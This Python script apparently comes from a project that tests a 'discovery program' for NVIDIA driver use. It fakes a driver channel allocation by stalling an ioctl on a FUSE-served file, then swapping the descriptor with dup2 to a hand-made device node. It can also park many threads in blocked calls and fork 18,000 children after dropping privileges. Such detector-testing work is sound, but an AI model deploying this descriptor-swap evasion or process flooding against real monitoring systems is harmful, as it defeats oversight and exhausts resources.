# SPDX-License-Identifier: MIT
"""A program that makes a channel on NVIDIA's driver, where there is no driver.

    program_of_driver.py FOLDER RELEASE [USER]
    program_of_driver.py FOLDER threads NUMBER

With a USER it makes a client alone, as that user.  When it is told to, by a line, it forks as many
children as there are records in four megabytes; then it says so.  With "threads" so many stay
in such a call of a file that is not the driver's; it says so when they do.

Its file is one that it serves itself (FUSE), so that the ioctl succeeds.  While the call is under way
the descriptor comes to name a device node of the driver's number: the discovery program looks at
that when the call has ended.  The parameters are laid out as that release has them.
"""

from __future__ import annotations

import ctypes
import os
import signal
import stat
import struct
import sys
import threading
from pathlib import Path
from typing import NoReturn

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "attack"))

from held import IOCTL, held_file  # noqa: E402

RM_ALLOC = 0xC030462B
#: what the channel has
CLIENT, GROUP, CHANNEL, CLASS = 0xC1D00021, 0x5C000015, 0x5C00001C, 0xC86F
ROOT_CLIENT, OWN_CLIENT = 0x41, 0xC1D00022
#: two records each
CHILDREN = 18000
USERD, OFFSET, ENGINE, NUMBER = 0x5C000033, 0x4200, 1, 77


def parameters(release: int) -> bytes:
    """Of a channel, where the driver's headers have each field (levers/nvidia/needs.csv)."""
    at = (36, 72, 136, 140, 376) if release >= 610 else (32, 64, 128, 132, 368)
    data = bytearray(b"\xee" * at[4])
    struct.pack_into("I", data, at[0], USERD)
    struct.pack_into("Q", data, at[1], OFFSET)
    struct.pack_into("I", data, at[2], ENGINE)
    struct.pack_into("I", data, at[3], NUMBER)
    return bytes(data)


def stay(folder: Path, count: int) -> NoReturn:
    """So many threads are in a call that does not end."""
    file = held_file(folder / "file", IOCTL)
    libc, call = ctypes.CDLL(None), ctypes.create_string_buffer(64)
    threading.stack_size(1 << 16)
    for _ in range(count):
        threading.Thread(
            target=libc.ioctl, args=(file, ctypes.c_ulong(RM_ALLOC), call), daemon=True
        ).start()
    waiting = 0
    while waiting < count:
        tasks = Path("/proc/self/task").iterdir()
        waiting = sum((task / "syscall").read_text().startswith("16 ") for task in tasks)
    print("stay", flush=True)
    while True:
        signal.pause()


def main() -> None:
    """Make the call."""
    folder = Path(sys.argv[1])
    if sys.argv[2] == "threads":
        stay(folder, int(sys.argv[3]))
    release, user = int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else None
    asked, go = os.pipe(), os.pipe()

    def answer(given: bytes) -> bytes:
        os.write(asked[1], b"!")
        os.read(go[0], 1)
        return given

    node = folder / "nvidia"
    os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(195, 255))
    file = held_file(folder / "file", -1, answer)
    # The file system is asked at each close, until it has said that it does not care: not while it
    # answers the call.
    os.close(os.dup(file))
    params = ctypes.create_string_buffer(parameters(release))
    what = (CLIENT, GROUP, CHANNEL, CLASS) if user is None else (0, 0, OWN_CLIENT, ROOT_CLIENT)
    call = ctypes.create_string_buffer(
        struct.pack("4IQQ4I", *what, ctypes.addressof(params), 0, 0, 0, 0, 0)
    )
    results = []
    libc = ctypes.CDLL(None)
    caller = threading.Thread(
        target=lambda: results.append(libc.ioctl(file, ctypes.c_ulong(RM_ALLOC), call))
    )
    caller.start()
    os.read(asked[0], 1)
    os.dup2(os.open(node, os.O_PATH), file)
    os.write(go[1], b"!")
    caller.join()
    if user is None or results != [0]:
        sys.exit(results != [0])
    os.setgid(user)
    os.setuid(user)
    # A shell forks in a fraction of the time.
    script = f"read go; n=0; while [ $n -lt {CHILDREN} ]; do (:); n=$((n+1)); done; echo forked; read on"
    os.execv("/bin/sh", ["sh", "-c", script])


if __name__ == "__main__":
    main()
